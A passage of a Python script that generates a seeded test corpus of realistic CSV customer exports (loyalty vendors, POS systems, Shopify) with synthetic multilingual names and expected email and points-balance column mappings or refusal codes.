"""Generate the independent CSV-inspection corpus: realistic export layouts and hostile inputs.

Run `.venv/bin/python -m tests.corpus.make_layouts` from the checkout root. The output is
deterministic (one seeded random generator), so re-running rewrites identical bytes; the tests read
the committed files, never this script.

Every expectation here is what a careful person would answer by looking at the file, written down
BEFORE any engine saw it: `{"EMAIL": i, "POINTS": j}` (0-based source columns) where the answer is
unambiguous, `{"refuse": true, "code": ...}` where a careful person would refuse to guess.
`manifest.json` keeps the ground truth the expectations were built from (encoding, delimiter, why,
and a few email/points pairs that the normalized file must still pair up).
"""

# Names and headers in Hebrew, Cyrillic and Japanese are the point of this corpus, not a typo:
# ruff: noqa: RUF001
from __future__ import annotations

import csv
import gzip
import io
import json
import random
import re
import string
import unicodedata
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from datetime import date, datetime, timedelta
from pathlib import Path
from typing import Any, Literal

HERE = Path(__file__).resolve().parent
LAYOUTS_DIR = HERE / 'layouts'
HOSTILE_DIR = HERE / 'hostile'
SEED = 20261126

EMAIL_RE = re.compile(r'^[A-Za-z0-9._%+\'-]+@[A-Za-z0-9.-]+\.[A-Za-z]{2,}$')

# ---------------------------------------------------------------------------------------------
# People
# ---------------------------------------------------------------------------------------------

INTL_FIRST = [
    'José',
    'Sofía',
    'Núria',
    'Chloé',
    'François',
    'Léa',
    'Zoë',
    'Björn',
    'Åsa',
    'Søren',
    'Jürgen',
    'Mateo',
    'Olivia',
    'Liam',
    'Emma',
    'Noah',
    'Maja',
    'Ahmed',
    'Yuki',
    'Aiko',
    'Ömer',
    'Inês',
    'Zoé',
    'Hélène',
    'Ángel',
    'Dagný',
    'Fátima',
    'Mía',
]
INTL_LAST = [
    'Núñez',
    'Müller',
    'García',
    'Dubois',
    'Østergaard',
    'Kowalski',
    "O'Brien",
    'Cohen',
    'Tanaka',
    'Silva',
    'Rossi',
    'Jansen',
    'Andersson',
    'Schäfer',
    'Gonçalves',
    'Ferreira',
    'Lefèvre',
    'Jørgensen',
    'Ibáñez',
    'Hassan',
    'Smith',
    'Nakamura',
    'Brontë',
]
DE_FIRST = ['Jürgen', 'Jörg', 'Anna', 'Lukas', 'Sören', 'Käthe', 'Björn', 'Mia', 'Günther', 'Lea', 'Felix']
DE_LAST = [
    'Müller',
    'Schäfer',
    'Weiß',
    'Groß',
    'Köhler',
    'Hoffmann',
    'Schröder',
    'Bäcker',
    'Wagner',
    'Krämer',
]
FR_FIRST = ['Chloé', 'François', 'Léa', 'Hélène', 'Éloïse', 'Noël', 'Zoé', 'Jérôme', 'Cécile', 'Gaël']
FR_LAST = ['Dubois', 'Lefèvre', 'Moreau', 'Girard', 'Bérenger', 'Fournier', 'Lemaître', 'Rousseau', 'Benoît']
ES_FIRST = ['José', 'Sofía', 'Núria', 'Ángel', 'Lucía', 'Íñigo', 'Martín', 'Begoña', 'Raúl', 'Inés']
ES_LAST = ['Núñez', 'García', 'Ibáñez', 'Muñoz', 'Pérez', 'Gómez', 'Martínez', 'Peña', 'Sánchez', 'Ortiz']
IT_FIRST = ['Niccolò', 'Lucia', 'Giulia', 'Andrea', 'Matteo', 'Chiara', 'Lorenzo', 'Federica', 'Nicolò']
IT_LAST = ['Rossi', 'Bianchi', "D'Angelo", 'Esposito', 'Romano', 'Colombo', 'Ricci', 'Mancini', 'Caruso']
NL_FIRST = ['Daan', 'Sanne', 'Bram', 'Lotte', 'Joëlle', 'Thijs', 'Fleur', 'Ruud', 'Noëlle']
NL_LAST = ['de Vries', 'Jansen', 'van den Berg', 'Bakker', 'Visser', 'Smit', 'de Jong', 'van Dijk', 'Meijer']
PT_FIRST = ['João', 'Inês', 'Gonçalo', 'Conceição', 'Antônio', 'Beatriz', 'Tomás', 'Mariana', 'Vitória']
PT_LAST = ['Gonçalves', 'Ferreira', 'Araújo', 'Magalhães', 'Simões', 'Conceição', 'Lopes', 'Sá', 'Brandão']
PL_FIRST = ['Łukasz', 'Zofia', 'Małgorzata', 'Michał', 'Agnieszka', 'Paweł', 'Katarzyna', 'Grzegorz']
PL_LAST = ['Wiśniewski', 'Wójcik', 'Dąbrowska', 'Kowalczyk', 'Zieliński', 'Szymańska', 'Woźniak', 'Jabłoński']
CZ_FIRST = ['Jiří', 'Tomáš', 'Kateřina', 'Lucie', 'Petr', 'Zuzana', 'Radek', 'Markéta']
CZ_LAST = ['Dvořák', 'Novák', 'Černá', 'Procházka', 'Kučera', 'Svoboda', 'Veselá', 'Růžička']
# (native, romanized for the email) pairs: an email address is ASCII even when the name is not.
HE_FIRST = [
    ('דניאל', 'daniel'),
    ('נועה', 'noa'),
    ('יוסי', 'yossi'),
    ('מיכל', 'michal'),
    ('איתי', 'itai'),
    ('שירה', 'shira'),
    ('עומר', 'omer'),
    ('תמר', 'tamar'),
    ('אביגיל', 'avigail'),
]
HE_LAST = [
    ('כהן', 'cohen'),
    ('לוי', 'levi'),
    ('מזרחי', 'mizrahi'),
    ('פרץ', 'peretz'),
    ('ביטון', 'biton'),
    ('אברהם', 'avraham'),
    ('פרידמן', 'friedman'),
    ('שפירא', 'shapira'),
]
# (kanji, katakana reading, romanized)
JA_FIRST = [
    ('太郎', 'タロウ', 'taro'),
    ('花子', 'ハナコ', 'hanako'),
    ('翔太', 'ショウタ', 'shota'),
    ('さくら', 'サクラ', 'sakura'),
    ('健一', 'ケンイチ', 'kenichi'),
    ('美咲', 'ミサキ', 'misaki'),
    ('大輔', 'ダイスケ', 'daisuke'),
    ('結衣', 'ユイ', 'yui'),
]
JA_LAST = [
    ('佐藤', 'サトウ', 'sato'),
    ('鈴木', 'スズキ', 'suzuki'),
    ('高橋', 'タカハシ', 'takahashi'),
    ('田中', 'タナカ', 'tanaka'),
    ('渡辺', 'ワタナベ', 'watanabe'),
    ('伊藤', 'イトウ', 'ito'),
    ('山本', 'ヤマモト', 'yamamoto'),
    ('中村', 'ナカムラ', 'nakamura'),
]
# Only in cp932 (NEC/IBM extensions), not in plain shift_jis: proves the wider code page.
JA_LAST_CP932_ONLY = [('髙橋', 'タカハシ', 'takahashi'), ('﨑山', 'サキヤマ', 'sakiyama')]
RU_FIRST = [
    ('Алексей', 'aleksey'),
    ('Мария', 'maria'),
    ('Дмитрий', 'dmitry'),
    ('Анна', 'anna'),
    ('Сергей', 'sergey'),
    ('Екатерина', 'ekaterina'),
    ('Ольга', 'olga'),
    ('Иван', 'ivan'),
]
RU_LAST = [
    ('Иванов', 'ivanov'),
    ('Смирнов', 'smirnov'),
    ('Кузнецов', 'kuznetsov'),
    ('Попов', 'popov'),
    ('Соколов', 'sokolov'),
    ('Лебедев', 'lebedev'),
    ('Новиков', 'novikov'),
]

DOMAINS = ['example.com', 'example.net', 'mail.example.org', 'shop.example.co.uk']
LOCAL_DOMAINS = {
    'de': ['example.de', 'mail.example.de', 'example.com'],
    'fr': ['example.fr', 'courriel.example.fr', 'example.com'],
    'es': ['example.es', 'correo.example.es', 'example.com'],
    'it': ['example.it', 'posta.example.it'],
    'nl': ['example.nl', 'example.com'],
    'pt': ['example.com.br', 'example.pt'],
    'pl': ['example.pl', 'poczta.example.pl'],
    'cz': ['example.cz', 'seznam.example.cz'],
    'he': ['example.co.il', 'walla.example.co.il'],
    'ja': ['example.co.jp', 'example.ne.jp'],
    'ru': ['example.ru', 'mail.example.ru'],
}
CITIES = {
    'intl': ['Austin', 'Berlin', 'Paris', 'Tokyo', 'Tel Aviv', 'Madrid', 'Lisboa', 'Oslo'],
    'de': ['München', 'Köln', 'Düsseldorf', 'Nürnberg', 'Berlin', 'Lübeck'],
    'fr': ['Orléans', 'Besançon', 'Nîmes', 'Paris', 'Lyon', 'Évry'],
    'es': ['Málaga', 'Córdoba', 'León', 'Madrid', 'Cádiz', 'Logroño'],
    'it': ['Forlì', 'Cantù', 'Roma', 'Milano', 'Napoli'],
    'nl': ['Utrecht', 'Den Haag', 'Amsterdam', "'s-Hertogenbosch"],
    'pt': ['São Paulo', 'Belém', 'Maceió', 'Lisboa', 'Évora'],
}

STREETS = ['Main St', 'Rue de la Paix', 'Hauptstraße', 'Calle Mayor']
COMPANIES = ['acme', 'globex', 'initech']
TIERS = ['Bronze', 'Silver', 'Gold', 'Platinum', '']
STAFF = [
    'anna.berg@myshop.example',
    'tom.reyes@myshop.example',
    'kasia.nowak@myshop.example',
    'li.wei@myshop.example',
]
FULLWIDTH = str.maketrans('0123456789,', '０１２３４５６７８９，')
TRANSLIT = str.maketrans(
    {
        'ł': 'l',
        'Ł': 'L',
        'ø': 'o',
        'Ø': 'O',
        'ß': 'ss',
        'æ': 'ae',
        'Æ': 'AE',
        'œ': 'oe',
        'Œ': 'OE',
        'đ': 'd',
        'ı': 'i',
        "'": '',
        ' ': '',
    }
)


def ascii_slug(text: str) -> str:
    decomposed = unicodedata.normalize('NFKD', text.translate(TRANSLIT))
    return ''.join(c for c in decomposed if c in string.ascii_letters).lower()


@dataclass
class Person:
    first: str
    last: str
    email: str
    kana: str
    phone: str
    zip: str
    city: str
    street: str
    birthday: date
    customer_id: int
    balance: int
    earned: int
    redeemed: int
    pending: int
    expired: int
    orders: int
    spent: float
    credit: float
    tier: str
    referral_code: str
    rating: int
    created: datetime

    @property
    def full(self) -> str:
        return f'{self.first} {self.last}'

    @property
    def lifetime(self) -> int:
        return self.earned


class Gen:
    """All randomness in one seeded generator, so the corpus is reproducible byte for byte."""

    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)
        self._serial = 0

    def balance(self) -> int:
        roll = self.rng.random()
        if roll < 0.15:
            return 0
        if roll < 0.45:
            return self.rng.randint(5, 500)
        if roll < 0.85:
            return self.rng.randint(500, 6000)
        return self.rng.randint(6000, 80000)

    def people(self, count: int, locale: str = 'intl', *, cp932_only: bool = False) -> list[Person]:
        return [self.person(locale, cp932_only=cp932_only) for _ in range(count)]

    def person(self, locale: str = 'intl', *, cp932_only: bool = False) -> Person:
        rng = self.rng
        self._serial += 1
        kana = ''
        if locale == 'he':
            (first, f_rom), (last, l_rom) = rng.choice(HE_FIRST), rng.choice(HE_LAST)
        elif locale == 'ru':
            (first, f_rom), (last, l_rom) = rng.choice(RU_FIRST), rng.choice(RU_LAST)
        elif locale == 'ja':
            ja_lasts = JA_LAST + (JA_LAST_CP932_ONLY if cp932_only else [])
            (first, f_kana, f_rom), (last, l_kana, l_rom) = rng.choice(JA_FIRST), rng.choice(ja_lasts)
            kana = f'{l_kana} {f_kana}'
        else:
            firsts, lasts = {
                'de': (DE_FIRST, DE_LAST),
                'fr': (FR_FIRST, FR_LAST),
                'es': (ES_FIRST, ES_LAST),
                'it': (IT_FIRST, IT_LAST),
                'nl': (NL_FIRST, NL_LAST),
                'pt': (PT_FIRST, PT_LAST),
                'pl': (PL_FIRST, PL_LAST),
                'cz': (CZ_FIRST, CZ_LAST),
            }.get(locale, (INTL_FIRST, INTL_LAST))
            first, last = rng.choice(firsts), rng.choice(lasts)
            f_rom, l_rom = ascii_slug(first), ascii_slug(last)
        pattern = rng.randrange(4)
        local = [f'{f_rom}.{l_rom}', f'{f_rom[0]}{l_rom}', f'{f_rom}_{l_rom}', f'{l_rom}.{f_rom}'][pattern]
        domain = rng.choice(LOCAL_DOMAINS.get(locale, DOMAINS))
        email = f'{local}{self._serial}@{domain}'
        balance = self.balance()
        redeemed = rng.choice([0, rng.randint(10, 900), rng.randint(900, 9000)])
        earned = balance + redeemed + rng.choice([0, 0, rng.randint(5, 400)])  # + expired
        return Person(
            first=first,
            last=last,
            email=email,
            kana=kana,
            phone=self.phone(locale),
            zip=self.postcode(locale),
            city=rng.choice(CITIES.get(locale, CITIES['intl'])),
            street=f'{rng.randint(1, 220)} {rng.choice(STREETS)}',
            birthday=date(1950, 1, 1) + timedelta(days=rng.randint(0, 20000)),
            customer_id=100000 + self._serial * 7 + rng.randint(0, 6),
            balance=balance,
            earned=earned,
            redeemed=redeemed,
            pending=rng.choice([0, 0, rng.randint(5, 300)]),
            expired=earned - balance - redeemed,
            orders=rng.randint(0, 60),
            spent=round(rng.uniform(0, 4000), 2),
            credit=round(rng.uniform(0, 150), 2),
            tier=rng.choice(TIERS),
            referral_code=''.join(rng.choices(string.ascii_uppercase + string.digits, k=8)),
            rating=rng.randint(1, 5),
            created=datetime(2019, 1, 1) + timedelta(minutes=rng.randint(0, 3_000_000)),  # noqa: DTZ001
        )

    def phone(self, locale: str) -> str:
        rng = self.rng
        n = ''.join(rng.choices(string.digits, k=8))
        if locale == 'ru':
            n += rng.choice(string.digits)
        return {
            'de': f'+49 151 {n}',
            'fr': f'06 {n[:2]} {n[2:4]} {n[4:6]} {n[6:]}',
            'es': f'+34 6{n}',
            'it': f'+39 3{n[:2]} {n[2:]}',
            'nl': f'06-{n}',
            'pt': f'(11) 9{n[:4]}-{n[4:]}',
            'he': f'05{n[0]}-{n[1:]}',
            'ja': f'090-{n[:4]}-{n[4:]}',
            'pl': f'+48 5{n[:2]} {n[2:5]} {n[5:]}',
            'cz': f'+420 7{n[:2]} {n[2:5]} {n[5:]}',
            'ru': f'+7 9{n[:2]} {n[2:5]}-{n[5:7]}-{n[7:]}',
        }.get(locale, f'+1 ({rng.randint(201, 989)}) {n[:3]}-{n[3:7]}')

    def postcode(self, locale: str) -> str:
        rng = self.rng
        if locale == 'ja':
            return f'{rng.randint(100, 999)}-{rng.randint(0, 9999):04d}'
        if locale == 'nl':
            return f'{rng.randint(1000, 9999)} {"".join(rng.choices(string.ascii_uppercase, k=2))}'
        if locale == 'pt':
            return f'{rng.randint(10000, 99999)}-{rng.randint(0, 999):03d}'
        if locale == 'pl':
            return f'{rng.randint(10, 99)}-{rng.randint(100, 999)}'
        if locale == 'cz':
            return f'{rng.randint(100, 799)} {rng.randint(0, 99):02d}'
        if locale == 'he':
            return f'{rng.randint(1000000, 9999999)}'
        return f'{rng.randint(1000, 99999):05d}'


# ---------------------------------------------------------------------------------------------
# Formatting helpers: how real exports write numbers, money and dates
# ---------------------------------------------------------------------------------------------


def grouped(n: int, sep: str) -> str:
    """1234567 -> '1,234,567' with the given thousands separator."""
    return f'{n:,}'.replace(',', sep)


def money(x: float, style: str = 'usd') -> str:
    if style == 'usd':
        return f'${x:,.2f}'
    if style == 'eur_de':
        return f'{x:,.2f} €'.replace(',', '\0').replace('.', ',').replace('\0', '.')
    if style == 'plain':
        return f'{x:.2f}'
    raise ValueError(style)


def sf_id(rng: random.Random, prefix: str) -> str:
    return prefix + ''.join(rng.choices(string.ascii_letters + string.digits, k=15))


Column = tuple[str, Callable[[Person], str]]


@dataclass
class Layout:
    name: str
    vendor: str
    header: list[str] | None
    rows: list[list[str]]
    expected: dict[str, Any]
    why: str
    encoding: str = 'utf-8'
    delimiter: str = ','
    newline: str = '\n'
    quoting: Literal[0, 1, 2, 3] = csv.QUOTE_MINIMAL
    preamble: str = ''  # e.g. Excel's 'sep=;' hint line before the header
    # For a file refused as ambiguous: the columns a merchant would name to resolve it.
    override: dict[str, int] | None = None
    checks: list[tuple[str, int]] = field(default_factory=list)


def table(people: Sequence[Person], columns: Sequence[Column]) -> tuple[list[str], list[list[str]]]:
    return [name for name, _ in columns], [[fn(p) for _, fn in columns] for p in people]


def mapping(header: Sequence[str], email: str, points: str) -> dict[str, Any]:
    return {'EMAIL': list(header).index(email), 'POINTS': list(header).index(points)}


def refuse(code: str) -> dict[str, Any]:
    return {'refuse': True, 'code': code}


def parse_points(text: str) -> int | None:
    """The integer a careful reader sees in a points cell ('1.234', '1 234', '12,345' -> ints)."""
    cleaned = unicodedata.normalize('NFKC', text).strip().replace('\xa0', '').replace('\u202f', '')
    cleaned = cleaned.replace(' ', '')
    cleaned = re.sub(r'(pts|points)\.?$', '', cleaned, flags=re.IGNORECASE)  # '1,250 pts'
    if re.fullmatch(r'\d{1,3}([.,]\d{3})+', cleaned):
        cleaned = cleaned.replace('.', '').replace(',', '')
    cleaned = re.sub(r'\.0+$', '', cleaned)  # Salesforce writes integers as '1200.0'
    return int(cleaned) if re.fullmatch(r'\d+', cleaned) else None


def sometimes_blank(rng: random.Random, value: str, share: float) -> str:
    """Real exports have rows without an email (walk-in POS sales, SMS-only profiles)."""
    return '' if rng.random() < share else value


def render(layout: Layout) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(
        buffer, delimiter=layout.delimiter, lineterminator=layout.newline, quoting=layout.quoting
    )
    if layout.header is not None:
        writer.writerow(layout.header)
    writer.writerows(layout.rows)
    text = layout.preamble + buffer.getvalue()
    if layout.encoding == 'utf-16-be-bom':
        data = b'\xfe\xff' + text.encode('utf-16-be')
    else:
        data = text.encode(layout.encoding)  # utf-16 writes its BOM; utf-8-sig its BOM
    return data


# ---------------------------------------------------------------------------------------------
# The layouts
# ---------------------------------------------------------------------------------------------


def n_rows(g: Gen) -> int:
    return g.rng.randint(20, 60)


def iso(d: date | datetime) -> str:
    return d.isoformat()


def mailchimp_columns(rng: random.Random) -> list[Column]:
    """A Mailchimp audience export's columns (the random ones draw from `rng` as the table is built)."""
    return [
        ('Email Address', lambda p: p.email),
        ('First Name', lambda p: p.first),
        ('Last Name', lambda p: p.last),
        ('Address', lambda p: f'{p.street}  {p.city}  {p.zip}'),
        ('Phone Number', lambda p: p.phone),
        ('Birthday', lambda p: p.birthday.strftime('%m/%d')),
        ('MEMBER_RATING', lambda p: str(p.rating)),
        ('OPTIN_TIME', lambda p: p.created.strftime('%Y-%m-%d %H:%M:%S')),
        ('CONFIRM_TIME', lambda p: p.created.strftime('%Y-%m-%d %H:%M:%S')),
        ('LATITUDE', lambda p: f'{rng.uniform(-60, 60):.7f}'),
        ('LONGITUDE', lambda p: f'{rng.uniform(-120, 120):.7f}'),
        ('GMTOFF', lambda p: str(rng.choice([-5, 0, 1, 2, 9]))),
        ('LEID', lambda p: str(rng.randint(10**8, 10**9))),
        ('EUID', lambda p: f'{rng.getrandbits(40):010x}'),
        ('TAGS', lambda p: rng.choice(['', '"VIP"', '"Newsletter","VIP"'])),
    ]


def build_layouts(g: Gen) -> list[Layout]:
    """Every layout, in a fixed order: each part draws from the one seeded generator in turn."""
    out: list[Layout] = []
    add = out.append
    _vendor_pos_and_marketing_layouts(g, add)
    _crm_and_other_peoples_email_layouts(g, add)
    _staff_and_decoy_layouts(g, add)
    _handmade_and_encoding_layouts(g, add)
    _language_layouts(g, add)
    _more_language_layouts(g, add)
    more_layouts(g, add)
    return out


def more_layouts(g: Gen, add: Callable[[Layout], None]) -> None:
    """Harder but still fair layouts, and refusals whose decoys look like points."""
    _harder_layouts_with_units(g, add)
    _harder_layouts_without_points(g, add)
    _harder_layouts_with_decoys(g, add)


# ---------------------------------------------------------------------------------------------
# Hostile inputs (small ones committed; big ones are generated by the tests into tmp_path)
# ---------------------------------------------------------------------------------------------


def _vendor_pos_and_marketing_layouts(g: Gen, add: Callable[[Layout], None]) -> None:
    rng = g.rng

    # --- loyalty vendors -------------------------------------------------------------------
    people = g.people(n_rows(g))
    header, rows = table(
        people,
        [
            ('Customer ID', lambda p: str(p.customer_id)),
            ('First name', lambda p: p.first),
            ('Last name', lambda p: p.last),
            ('Email', lambda p: p.email),
            ('Points balance', lambda p: str(p.balance)),
            ('Points earned', lambda p: str(p.earned)),
            ('Points spent', lambda p: str(p.redeemed)),
            ('VIP tier', lambda p: p.tier),
            ('Referral URL', lambda p: f'https://shop.example.com/r/{p.referral_code}'),
            ('Date of birth', lambda p: iso(p.birthday)),
            ('Created at', lambda p: p.created.strftime('%Y-%m-%d %H:%M:%S UTC')),
        ],
    )
    add(
        Layout(
            'smile_io_customers.csv',
            'Smile.io',
            header,
            rows,
            mapping(header, 'Email', 'Points balance'),
            'Points balance is the balance; earned and spent are history.',
        )
    )

    people = g.people(n_rows(g))
    header, rows = table(
        people,
        [
            ('Customer Email', lambda p: p.email),
            ('Customer Name', lambda p: p.full),
            ('Points Earned', lambda p: str(p.earned)),
            ('Points Redeemed', lambda p: str(p.redeemed)),
            ('Pending Points', lambda p: str(p.pending)),
            ('VIP Tier', lambda p: p.tier),
            ('Referral Code', lambda p: p.referral_code),
            ('Points Balance', lambda p: str(p.balance)),
            ('Birthday Month', lambda p: str(p.birthday.month)),
        ],
    )
    rows.insert(9, [rows[3][0].upper(), *rows[3][1:]])  # the same customer twice, differently cased
    add(
        Layout(
            'yotpo_swell_export.csv',
            'Yotpo/Swell',
            header,
            rows,
            mapping(header, 'Customer Email', 'Points Balance'),
            'Balance is last of four point columns; the others are earned/redeemed/pending.',
            encoding='utf-8-sig',
            newline='\r\n',
        )
    )

    people = g.people(n_rows(g))
    header, rows = table(
        people,
        [
            ('Customer ID', lambda p: str(p.customer_id)),
            ('Email', lambda p: p.email),
            ('Points Approved', lambda p: str(p.balance)),
            ('Points Pending', lambda p: str(p.pending)),
            ('Points Spent', lambda p: str(p.redeemed)),
            ('Tier', lambda p: p.tier),
            ('Referral Link', lambda p: f'https://lion.example/ref/{p.referral_code.lower()}'),
            ('Birthday', lambda p: p.birthday.strftime('%d/%m')),
            ('Enrolled At', lambda p: p.created.isoformat() + 'Z'),
        ],
    )
    add(
        Layout(
            'loyaltylion_members.csv',
            'LoyaltyLion',
            header,
            rows,
            mapping(header, 'Email', 'Points Approved'),
            'LoyaltyLion calls the spendable balance "approved"; pending and spent are the decoys.',
        )
    )

    people = g.people(n_rows(g))
    header, rows = table(
        people,
        [
            ('Player ID', lambda p: f'plr_{p.customer_id}'),
            ('Display Name', lambda p: p.full),
            ('Mobile', lambda p: p.phone),
            ('Email', lambda p: p.email),
            ('Level', lambda p: p.tier or 'Starter'),
            ('Total Earned Points', lambda p: str(p.earned)),
            ('Total Redeemed Points', lambda p: str(p.redeemed)),
            ('Pending Points', lambda p: str(p.pending)),
            ('Available Points', lambda p: str(p.balance)),
            ('Referral Code', lambda p: p.referral_code),
            ('Join Date', lambda p: p.created.strftime('%m/%d/%Y')),
        ],
    )
    add(
        Layout(
            'gameball_players.csv',
            'Gameball',
            header,
            rows,
            mapping(header, 'Email', 'Available Points'),
            'Available Points is the balance; email is not first.',
            newline='\r\n',
        )
    )

    people = g.people(n_rows(g), 'de')
    header, rows = table(
        people,
        [
            ('customer_id', lambda p: str(p.customer_id)),
            ('first_name', lambda p: p.first),
            ('last_name', lambda p: p.last),
            ('tier', lambda p: p.tier),
            ('score', lambda p: str(rng.randint(0, 3000))),
            ('email', lambda p: p.email),
            ('spent_points', lambda p: str(p.redeemed)),
            ('pending_points', lambda p: str(p.pending)),
            ('spendable_points', lambda p: str(p.balance)),
            ('reserved_points', lambda p: str(rng.choice([0, 0, 0, 50, 120]))),
        ],
    )
    add(
        Layout(
            'antavo_members_semicolon.csv',
            'Antavo',
            header,
            rows,
            mapping(header, 'email', 'spendable_points'),
            'Antavo: spendable_points is the balance; score is tier progress.',
            delimiter=';',
        )
    )

    people = g.people(n_rows(g))
    header, rows = table(
        people,
        [
            ('Customer ID', lambda p: str(p.customer_id)),
            ('Email', lambda p: p.email),
            ('First Name', lambda p: p.first),
            ('Last Name', lambda p: p.last),
            ('Lifetime Points', lambda p: str(p.lifetime)),
            ('Points Spent', lambda p: str(p.redeemed)),
            ('Points Balance', lambda p: str(p.balance)),
            ('Referral Code', lambda p: p.referral_code),
            ('Birthday Day', lambda p: str(p.birthday.day)),
            ('Birthday Month', lambda p: str(p.birthday.month)),
            ('VIP Tier', lambda p: p.tier),
        ],
    )
    add(
        Layout(
            'stamped_rewards_export.csv',
            'Stamped',
            header,
            rows,
            mapping(header, 'Email', 'Points Balance'),
            'Balance after lifetime/spent; birthday day and month are small integers.',
        )
    )

    people = g.people(n_rows(g))
    header, rows = table(
        people,
        [
            ('Email', lambda p: p.email),
            ('Credits Balance', lambda p: money(p.credit)),
            ('Lifetime Points Earned', lambda p: str(p.earned)),
            ('Points Balance', lambda p: str(p.balance)),
            ('Points Redeemed', lambda p: str(p.redeemed)),
            ('VIP Tier', lambda p: p.tier),
            ('Birthdate', lambda p: iso(p.birthday)),
        ],
    )
    add(
        Layout(
            'rivo_customers.csv',
            'Rivo',
            header,
            rows,
            mapping(header, 'Email', 'Points Balance'),
            'Credits Balance is money ($12.50), not points.',
        )
    )

    people = g.people(n_rows(g))
    header, rows = table(
        people,
        [
            (
                'customerId',
                lambda p: f'{rng.getrandbits(32):08x}-{rng.getrandbits(16):04x}-4{rng.getrandbits(12):03x}',
            ),
            ('firstName', lambda p: p.first),
            ('lastName', lambda p: p.last),
            ('phone', lambda p: p.phone),
            ('loyaltyCardNumber', lambda p: str(rng.randint(10**12, 10**13 - 1))),
            ('email', lambda p: p.email),
            ('levelName', lambda p: p.tier or 'Basic'),
            ('earnedPoints', lambda p: str(p.earned)),
            ('spentPoints', lambda p: str(p.redeemed)),
            ('expiredPoints', lambda p: str(p.expired)),
            ('lockedPoints', lambda p: str(p.pending)),
            ('activePoints', lambda p: str(p.balance)),
            ('createdAt', lambda p: p.created.isoformat() + '+00:00'),
        ],
    )
    add(
        Layout(
            'open_loyalty_members.csv',
            'Open Loyalty',
            header,
            rows,
            mapping(header, 'email', 'activePoints'),
            'activePoints is what the member can use; earned/spent/expired/locked are not the balance.',
        )
    )

    # --- POS --------------------------------------------------------------------------------
    people = g.people(n_rows(g))
    header, rows = table(
        people,
        [
            ('Reference ID', lambda p: f'C-{p.customer_id}'),
            ('First Name', lambda p: p.first),
            ('Last Name', lambda p: p.last),
            ('Email Address', lambda p: sometimes_blank(rng, p.email, 0.1)),
            ('Phone Number', lambda p: p.phone),
            ('Street Address 1', lambda p: p.street),
            ('City', lambda p: p.city),
            ('Postal Code', lambda p: p.zip),
            ('Birthday', lambda p: p.birthday.strftime('%m/%d')),
            (
                'Square Customer ID',
                lambda p: ''.join(rng.choices(string.ascii_uppercase + string.digits, k=26)),
            ),
            ('Transaction Count', lambda p: str(p.orders)),
            ('Lifetime Spend', lambda p: money(p.spent)),
            ('Loyalty Points Balance', lambda p: str(p.balance)),
            ('Email Subscription Status', lambda p: rng.choice(['subscribed', 'unsubscribed', ''])),
        ],
    )
    add(
        Layout(
            'square_customers.csv',
            'Square POS',
            header,
            rows,
            mapping(header, 'Email Address', 'Loyalty Points Balance'),
            'Transaction Count and postal codes are integers too; only one points column.',
        )
    )

    people = g.people(n_rows(g))
    header, rows = table(
        people,
        [
            ('Customer ID', lambda p: str(p.customer_id)),
            ('First Name', lambda p: p.first),
            ('Last Name', lambda p: p.last),
            ('Company', lambda p: rng.choice(['', '', 'Acme GmbH', 'Núñez & Hijos, S.L.'])),
            ('Phone', lambda p: p.phone),
            ('Mobile', lambda p: g.phone('intl')),
            ('Email', lambda p: p.email),
            ('ZIP', lambda p: p.zip),
            ('Store Credit Balance', lambda p: money(p.credit, 'plain')),
            ('Total Sales', lambda p: money(p.spent, 'plain')),
            ('Loyalty Points', lambda p: str(p.balance)),
        ],
    )
    add(
        Layout(
            'lightspeed_customers_tab.csv',
            'Lightspeed',
            header,
            rows,
            mapping(header, 'Email', 'Loyalty Points'),
            'Tab-delimited; a company name contains a comma; money columns are decimals.',
            delimiter='\t',
            newline='\r\n',
        )
    )

    people = g.people(n_rows(g))
    header, rows = table(
        people,
        [
            ('Customer ID', lambda p: f"'{rng.randint(10**12, 10**13 - 1)}"),
            ('First Name', lambda p: p.first),
            ('Last Name', lambda p: p.last),
            ('Email', lambda p: sometimes_blank(rng, p.email, 0.15)),  # walk-in POS customers
            ('Accepts Email Marketing', lambda p: rng.choice(['yes', 'no'])),
            ('Default Address Company', lambda p: ''),
            ('Default Address City', lambda p: p.city),
            ('Default Address Zip', lambda p: p.zip),
            ('Phone', lambda p: p.phone.replace(' ', '').replace('(', '').replace(')', '').replace('-', '')),
            ('Total Spent', lambda p: money(p.spent, 'plain')),
            ('Total Orders', lambda p: str(p.orders)),
            ('Note', lambda p: rng.choice(['', '', 'VIP, call before shipping', 'Gift wrap\nalways'])),
            ('Tax Exempt', lambda p: rng.choice(['yes', 'no'])),
            ('Tags', lambda p: rng.choice(['', 'pos', 'pos, vip'])),
            ('Metafield: loyalty.points_balance [number_integer]', lambda p: str(p.balance)),
        ],
    )
    add(
        Layout(
            'shopify_pos_customers_metafield.csv',
            'Shopify POS',
            header,
            rows,
            mapping(header, 'Email', 'Metafield: loyalty.points_balance [number_integer]'),
            'Points live in a Shopify metafield column; notes hold commas and newlines.',
        )
    )

    people = g.people(n_rows(g))
    header, rows = table(
        people,
        [
            ('Customer ID', lambda p: f"'{rng.randint(10**12, 10**13 - 1)}"),
            ('First Name', lambda p: p.first),
            ('Last Name', lambda p: p.last),
            ('Email', lambda p: p.email),
            ('Accepts Email Marketing', lambda p: rng.choice(['yes', 'no'])),
            ('Default Address Zip', lambda p: p.zip),
            ('Phone', lambda p: p.phone),
            ('Total Spent', lambda p: money(p.spent, 'plain')),
            ('Total Orders', lambda p: str(p.orders)),
            ('Tags', lambda p: rng.choice(['', 'newsletter', 'vip, wholesale'])),
        ],
    )
    add(
        Layout(
            'shopify_customers_plain_export.csv',
            'Shopify',
            header,
            rows,
            refuse('NO_POINTS_COLUMN'),
            'A plain Shopify customer export: Total Orders and Total Spent are not a points balance.',
        )
    )

    people = g.people(n_rows(g))
    header, rows = table(
        people,
        [
            ('CUST_NO', lambda p: str(p.customer_id)),
            ('NAME', lambda p: p.full.upper()),
            ('PHONE', lambda p: p.phone),
            ('EMAIL', lambda p: p.email.upper() if rng.random() < 0.2 else p.email),
            ('PTS_YTD', lambda p: str(p.earned)),
            ('LAST_VISIT', lambda p: p.created.strftime('%Y%m%d')),
            ('PTS_BAL', lambda p: str(p.balance)),
            ('STORE', lambda p: str(rng.choice([1, 2, 7]))),
        ],
    )
    add(
        Layout(
            'pos_legacy_pipe.csv',
            'legacy POS',
            header,
            rows,
            mapping(header, 'EMAIL', 'PTS_BAL'),
